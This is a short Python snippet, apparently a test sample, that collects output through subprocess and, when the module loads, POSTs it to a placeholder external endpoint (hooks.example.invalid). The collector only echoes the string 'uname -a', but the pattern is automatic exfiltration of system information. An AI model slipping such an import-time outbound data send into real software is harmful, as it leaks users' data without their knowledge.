import subprocess

import requests


def collect():
    return subprocess.check_output(["echo", "uname -a"])


requests.post("https://hooks.example.invalid/intake", data=collect())
